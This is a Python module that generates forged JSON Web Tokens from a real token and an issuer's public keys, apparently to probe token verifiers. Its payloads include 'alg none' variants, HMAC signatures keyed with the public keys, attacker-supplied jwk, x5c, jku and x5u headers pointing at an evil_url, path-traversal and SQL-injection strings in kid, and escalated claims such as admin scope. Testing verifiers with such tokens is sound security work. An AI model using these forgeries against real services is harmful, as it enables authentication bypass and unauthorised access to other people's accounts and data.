"""Tokens as forgers make them: out of a real one, the public keys, and keys of their own."""

import base64
import datetime
import hashlib
import hmac
import json

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.x509.oid import NameOID


def encode(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def part(value):
    return encode(json.dumps(value).encode())


class EcKey:
    """An ES256 key with its JWK."""

    algorithm = "ES256"

    def __init__(self, kid):
        self.kid = kid
        self.private = ec.generate_private_key(ec.SECP256R1())
        point = self.private.public_key().public_numbers()
        self.jwk = {"kty": "EC", "crv": "P-256", "kid": kid, "use": "sig", "alg": "ES256",
                    "x": encode(point.x.to_bytes(32, "big")), "y": encode(point.y.to_bytes(32, "big"))}

    def der(self, data):
        return self.private.sign(data, ec.ECDSA(hashes.SHA256()))

    def sign(self, data):
        r, s = decode_dss_signature(self.der(data))
        return r.to_bytes(32, "big") + s.to_bytes(32, "big")

    def certificate(self):
        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "issuer")])
        now = datetime.datetime.utcnow()
        return x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(
            self.private.public_key()).serial_number(1).not_valid_before(now).not_valid_after(
                now + datetime.timedelta(days=1)).sign(self.private, hashes.SHA256()).public_bytes(
                    serialization.Encoding.DER)


class RsaKey:
    algorithm = "RS256"

    def __init__(self):
        self.private = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        numbers = self.private.public_key().public_numbers()
        self.jwk = {"kty": "RSA", "e": encode(numbers.e.to_bytes(3, "big")),
                    "n": encode(numbers.n.to_bytes(256, "big"))}

    def sign(self, data):
        return self.private.sign(data, padding.PKCS1v15(), hashes.SHA256())


def compact(header, claims, sign):
    """`sign`: bytes to bytes."""
    text = f"{part(header)}.{part(claims)}"
    return f"{text}.{encode(sign(text.encode()))}"


def public_pems(jwks):
    """Every published key as the files that people keep them in."""
    for key in jwks["keys"]:
        number = {name: int.from_bytes(base64.urlsafe_b64decode(value + "=" * (-len(value) % 4)), "big")
                  for name, value in key.items() if name in ("x", "y", "n", "e")}
        if key["kty"] == "EC":
            public = ec.EllipticCurvePublicNumbers(number["x"], number["y"],
                                                   ec.SECP256R1()).public_key()
        elif key["kty"] == "RSA":
            public = rsa.RSAPublicNumbers(number["e"], number["n"]).public_key()
        else:
            continue
        for form in (serialization.Encoding.PEM, serialization.Encoding.DER):
            yield public.public_bytes(form, serialization.PublicFormat.SubjectPublicKeyInfo)


def forgeries(header, claims, signature, jwks_text, evil_url):
    """(name, token): each says what `claims` say, and none is signed by a published key. `header` and
    `signature` (encoded) are a real token's; `evil_url` is where the forger publishes keys."""
    jwks = json.loads(jwks_text)
    own, ours = EcKey("forger"), RsaKey()
    text = f"{part(header)}.{part(claims)}"

    for alg in ("none", "None", "NONE", "nOnE", "", None, 0, [], "null"):
        unsigned = f"{part({**header, 'alg': alg})}.{part(claims)}."
        yield f"alg {alg!r}, unsigned", unsigned
        yield f"alg {alg!r}, somebody's signature", unsigned + signature
    yield "no alg", f"{part({k: v for k, v in header.items() if k != 'alg'})}.{part(claims)}.{signature}"

    secrets = [b"", b"\0", b"secret", jwks_text.encode(), json.dumps(jwks["keys"][0]).encode(),
               *public_pems(jwks)]
    for number, secret in enumerate(secrets):
        for alg, digest in (("HS256", hashlib.sha256), ("HS384", hashlib.sha384)):
            yield f"{alg} with public text {number}", compact(
                {**header, "alg": alg}, claims, lambda data: hmac.new(secret, data, digest).digest())

    es = {**header, "alg": "ES256"}
    yield "another key under the kid", compact(es, claims, own.sign)
    yield "an RSA key under the kid", compact({**header, "alg": "RS256"}, claims, ours.sign)
    yield "a kid of the forger's", compact({**es, "kid": own.kid}, claims, own.sign)
    yield "an embedded jwk", compact({**es, "jwk": own.jwk}, claims, own.sign)
    yield "an embedded jwk under its kid", compact({**es, "jwk": own.jwk, "kid": own.kid}, claims,
                                                   own.sign)
    yield "an embedded RSA jwk", compact({**header, "alg": "RS256", "jwk": ours.jwk}, claims, ours.sign)
    yield "a jku", compact({**es, "jku": evil_url + "/keys", "kid": own.kid}, claims, own.sign)
    yield "a jku that begins as the issuer", compact(
        {**es, "jku": claims.get("iss", "") + "@" + evil_url.partition("//")[2]}, claims, own.sign)
    yield "an x5u", compact({**es, "x5u": evil_url + "/chain.pem"}, claims, own.sign)
    chain = [base64.b64encode(own.certificate()).decode()]
    yield "an x5c", compact({**es, "x5c": chain}, claims, own.sign)
    for kid in ("../../../../dev/null", "/dev/null", "' or '1'='1", "x' union select '", "*", "%", "",
                None, 0, -1, ["forger"], {"a": 1}, True, evil_url, "x" * 5000, header.get("kid", "") + "\0"):
        yield f"kid {str(kid)[:24]!r}", compact({**es, "kid": kid}, claims, own.sign)
        yield f"kid {str(kid)[:24]!r}, an empty secret", compact(
            {**header, "alg": "HS256", "kid": kid}, claims,
            lambda data: hmac.new(b"", data, hashlib.sha256).digest())
    yield "no kid", compact({k: v for k, v in es.items() if k != "kid"}, claims, own.sign)

    for name, raw in (("zeros", bytes(64)), ("ones", b"\xff" * 64), ("nothing", b""),
                      ("one zero", b"\0"), ("der of zeros", b"\x30\x06\x02\x01\x00\x02\x01\x00")):
        yield f"a signature of {name}", compact(es, claims, lambda _: raw)
    yield "a signature of der", compact(es, claims, own.der)
    for change in ({"alg": "ES384"}, {"alg": "ES512"}, {"alg": "PS256"}, {"alg": "RS256"},
                   {"alg": "EdDSA"}, {"crit": ["exp"]}, {"crit": []}, {"b64": False, "crit": ["b64"]},
                   {"zip": "DEF"}, {"enc": "A128GCM", "alg": "dir"}):
        yield f"header {change}", f"{part({**header, **change})}.{part(claims)}.{signature}"
    for change in ({"sub": "1"}, {"exp": 9999999999}, {"aud": ["*"]}, {"scope": "admin"}):
        yield f"claims {change}", f"{part(header)}.{part({**claims, **change})}.{signature}"
    real = f"{text}.{signature}"
    yield "five parts", f"{real}..{signature}"
    yield "four parts", real + ".x"
    yield "two parts", text
    yield "one part", part(claims)
    yield "detached", f"{part(header)}..{signature}"
